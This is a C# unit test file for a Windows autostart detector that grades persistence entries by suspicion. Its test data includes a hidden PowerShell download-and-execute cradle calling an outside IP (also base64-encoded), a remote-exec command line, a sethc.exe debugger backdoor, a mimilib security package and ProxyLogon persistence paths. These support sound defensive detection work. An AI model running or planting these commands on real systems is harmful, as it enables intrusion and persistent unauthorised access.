using System.Text;
using Breakwater.Detection.Autostarts;
using Breakwater.Knowledge;
using Breakwater.Model;

namespace Breakwater.Detection.Tests.Autostarts;

public sealed class AutostartDetectorTest
{
    private static readonly AutostartDetector Detector = new(KnowledgeBase.Embedded.Indicators);

    [Theory]
    [InlineData(AutostartKind.Service, "websvc", @"%SystemRoot%\System32\svchost.exe -k netsvcs C:\Program Files\System\websvc.dll", "proxylogon")]
    [InlineData(AutostartKind.Task, @"\VSPerfMon", @"C:\ProgramData\VSPerfMon\VSPerfMon.exe", "proxylogon")]
    [InlineData(AutostartKind.Service, "msupdate", @"C:\Windows\System32\svchost32.exe", "proxylogon")]
    [InlineData(AutostartKind.RunKey, "Opera", @"C:\Users\Public\opera\opera_browser.exe", "proxylogon")]
    [InlineData(AutostartKind.Task, @"\u", @"C:\ProgramData\COM1\a.exe", null)]
    [InlineData(AutostartKind.Task, @"\x", "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"", null)]
    [InlineData(AutostartKind.Service, "x", @"%COMSPEC% /C echo whoami ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat", null)]
    [InlineData(AutostartKind.Debugger, "sethc.exe", @"C:\Windows\System32\cmd.exe", null)]
    [InlineData(AutostartKind.SecurityPackage, "Security Packages", "mimilib", null)]
    public void IntrudersWork_IsHigh(AutostartKind kind, string name, string command, string? campaign)
    {
        var trace = Assert.Single(Examine(kind, name, command));
        Assert.Equal((Confidence.High, campaign), (trace.Confidence, trace.Campaign));
    }

    [Fact]
    public void EncodedCommand_IsReadThrough()
    {
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"));
        Assert.Equal(Confidence.High, Assert.Single(Examine(AutostartKind.Task, @"\a", "powershell.exe -NoP -e " + encoded)).Confidence);
        encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("Get-Service | Export-Csv C:\\Reports\\services.csv"));
        Assert.Equal(Confidence.Low, Assert.Single(Examine(AutostartKind.Task, @"\a", "powershell.exe -EncodedCommand " + encoded)).Confidence);
    }

    [Theory]
    [InlineData(AutostartKind.Service, "x", @"C:\Windows\Temp\svc.exe")]
    [InlineData(AutostartKind.Service, "x", @"""C:\PerfLogs\svc.exe"" -k")]
    [InlineData(AutostartKind.RunKey, "x", @"rundll32.exe C:\ProgramData\a.dll,Start")]
    [InlineData(AutostartKind.Task, @"\x", @"C:\inetpub\wwwroot\aspnet_client\a.exe")]
    [InlineData(AutostartKind.Task, @"\Winnet", @"C:\Tools\w.exe")]
    public void FolderForOtherThings_IsMedium(AutostartKind kind, string name, string command) => Assert.Equal(Confidence.Medium, Assert.Single(Examine(kind, name, command)).Confidence);

    [Theory]
    [InlineData(AutostartKind.Service, "Vendor", @"C:\ProgramData\Vendor\Agent\agent.exe")]
    [InlineData(AutostartKind.Task, @"\OneDrive", @"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe")]
    [InlineData(AutostartKind.Driver, "cpuz", @"\??\C:\Windows\Temp\cpuz\cpuz_x64.sys")]
    [InlineData(AutostartKind.RunOnce, "setup", @"C:\Windows\Temp\setup.exe /resume")]
    [InlineData(AutostartKind.Service, "PSEXESVC", @"%SystemRoot%\PSEXESVC.exe")]
    [InlineData(AutostartKind.SecurityPackage, "Notification Packages", "passfilter")]
    [InlineData(AutostartKind.Debugger, "notepad.exe", @"C:\Tools\editor.exe")]
    public void WhatProductsDoToo_IsLow(AutostartKind kind, string name, string command) => Assert.Equal(Confidence.Low, Assert.Single(Examine(kind, name, command)).Confidence);

    [Theory]
    [InlineData(AutostartKind.Service, "MSExchangeIS", @"""C:\Program Files\Microsoft\Exchange Server\V15\bin\Microsoft.Exchange.Store.Service.exe""")]
    [InlineData(AutostartKind.Service, "WinDefend", @"""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2101.9-0\MsMpEng.exe""")]
    [InlineData(AutostartKind.Service, "WdNisSvc", @"""%ProgramData%\Microsoft\Windows Defender\platform\4.18.1904.1-0\NisSrv.exe""")]
    [InlineData(AutostartKind.RunOnce, "{1}", @"""C:\ProgramData\Package Cache\{1}\vcredist_x64.exe"" /burn.runonce")]
    [InlineData(AutostartKind.Task, @"\Backup", @"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\backup.ps1")]
    [InlineData(AutostartKind.Task, @"\Logs", @"cmd.exe /c forfiles /p C:\inetpub\logs\LogFiles /m *.log /d -30 /c ""cmd /c del @path""")]
    [InlineData(AutostartKind.SecurityPackage, "Security Packages", "kerberos")]
    [InlineData(AutostartKind.Service, "auxiliary", @"E:\common\auxiliary\conference.exe")]
    public void OrdinaryStart_IsNoTrace(AutostartKind kind, string name, string command) => Assert.Empty(Examine(kind, name, command));

    [Theory]
    [InlineData('a')]
    [InlineData('\\')]
    [InlineData(' ')]
    [InlineData('%')]
    public void MonotonousCommand_EndsInReasonableTime(char c) => Assert.InRange(Examine(AutostartKind.Task, "x", "cmd echo " + new string(c, 1_000_000)).Count, 0, 1);

    private static IReadOnlyList<FileTrace> Examine(AutostartKind kind, string name, string command) =>
        Detector.Examine("SOFTWARE", [new Autostart { Kind = kind, Name = name, Command = command, Place = "x" }]);
}
